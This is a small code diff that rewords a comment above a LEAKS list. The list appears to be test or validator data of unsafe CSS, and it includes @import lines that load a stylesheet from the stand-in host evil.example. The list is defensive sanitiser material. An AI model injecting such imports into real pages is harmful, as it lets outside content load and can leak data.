@@ -1,4 +1,4 @@
-/** Style sheets that would load something from elsewhere, run something, or end the element they stand in. */
+/** Style sheets that would load something from elsewhere, run something, or end the element that contains them. */
 const LEAKS = [
   '@import "https://evil.example/x.css";',
   '@import url(//evil.example/x.css);',
